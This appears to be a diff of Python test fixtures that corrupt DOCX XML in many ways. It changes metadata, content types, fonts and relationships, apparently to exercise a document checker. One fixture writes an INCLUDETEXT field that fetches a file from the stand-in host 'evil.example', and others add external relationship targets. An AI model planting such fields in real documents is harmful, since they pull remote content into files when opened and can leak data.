@@ -196,3 +196,132 @@ def letters_for_numbers(root: Element) -> None:
 
 def turn_round(root: Element) -> None:
     etree.SubElement(first(root, "pPr"), f"{W}bidi")
+
+
+def add(path: str, child: str, **attributes: str) -> Harm:
+    """A further child, after all others, of the first element of a path."""
+
+    def harm(root: Element) -> None:
+        added = etree.SubElement(first(root, path), W + child)
+        for name, value in attributes.items():
+            added.set(W + name, value)
+
+    return harm
+
+
+def every(tag: str, name: str, value: str) -> Harm:
+    """An attribute of all elements with that name."""
+
+    def harm(root: Element) -> None:
+        for element in root.iter(W + tag):
+            element.set(W + name, value)
+
+    return harm
+
+
+def to_root(child: str, **attributes: str) -> Harm:
+    """A first child of the part itself."""
+
+    def harm(root: Element) -> None:
+        added = etree.Element(W + child)
+        for name, value in attributes.items():
+            added.set(W + name, value)
+        root.insert(0, added)
+
+    return harm
+
+
+def turn_one_bracket(root: Element) -> None:
+    """Put a closing bracket into a right-to-left run, apart from its opening one."""
+    text = next(t for t in root.iter(f"{W}t") if t.text == ")")
+    properties = first(parent(text), "rPr")
+    properties.clear()
+    etree.SubElement(properties, f"{W}rtl")
+
+
+def date_of_creation(value: str) -> Harm:
+    def harm(root: Element) -> None:
+        for name in ("created", "modified"):
+            element = root.find(f"{{http://purl.org/dc/terms/}}{name}")
+            assert element is not None
+            element.text = value
+
+    return harm
+
+
+def changed_later(root: Element) -> None:
+    element = root.find("{http://purl.org/dc/terms/}modified")
+    assert element is not None
+    element.text = "2020-06-12T00:00:00Z"
+
+
+def keyword(root: Element) -> None:
+    space = "http://schemas.openxmlformats.org/package/2006/metadata/core-properties"
+    etree.SubElement(root, f"{{{space}}}keywords").text = "secret"
+
+
+def relation(kind: str, target: str, *, outside: bool = True) -> Harm:
+    """One more relationship of that kind."""
+    space = "http://schemas.openxmlformats.org/package/2006/relationships"
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+    def harm(root: Element) -> None:
+        added = etree.SubElement(root, f"{{{space}}}Relationship")
+        added.set("Id", "rId99")
+        added.set("Type", f"{office}/{kind}")
+        added.set("Target", target)
+        if outside:
+            added.set("TargetMode", "External")
+
+    return harm
+
+
+def fetch_a_part_from_outside(root: Element) -> None:
+    next(r for r in root if r.get("Target") == "styles.xml").set("TargetMode", "External")
+
+
+def content_type(old: str, new: str) -> Harm:
+    def harm(root: Element) -> None:
+        item = next(e for e in root if old in e.get("ContentType", ""))
+        item.set("ContentType", item.get("ContentType", "").replace(old, new))
+
+    return harm
+
+
+def content_type_for_pictures(root: Element) -> None:
+    added = etree.SubElement(root, str(root[0].tag))
+    added.set("Extension", "png")
+    added.set("ContentType", "image/png")
+
+
+def _property_of_a_run(root: Element, name: str, attribute: str, value: str) -> None:
+    run = first(styled(root, "BodyText"), "r")
+    properties = etree.Element(f"{W}rPr")
+    etree.SubElement(properties, W + name).set(W + attribute, value)
+    run.insert(0, properties)
+
+
+def symbol_font(root: Element) -> None:
+    _property_of_a_run(root, "rFonts", "ascii", "Symbol")
+
+
+def size_of_a_run(root: Element) -> None:
+    _property_of_a_run(root, "sz", "val", "40")
+
+
+def add_style(root: Element) -> None:
+    style = copy.deepcopy(first(root, "style"))
+    style.set(f"{W}styleId", "Other")
+    root.append(style)
+
+
+def to_body(child: str) -> Harm:
+    return lambda root: first(root, "body").insert(0, etree.Element(W + child))
+
+
+def replace_field(root: Element) -> None:
+    first(root, "instrText").text = ' INCLUDETEXT "https://evil.example/x.docx" '
+
+
+def stray_text(root: Element) -> None:
+    first(root, "p/r").tail = "Ring inte."
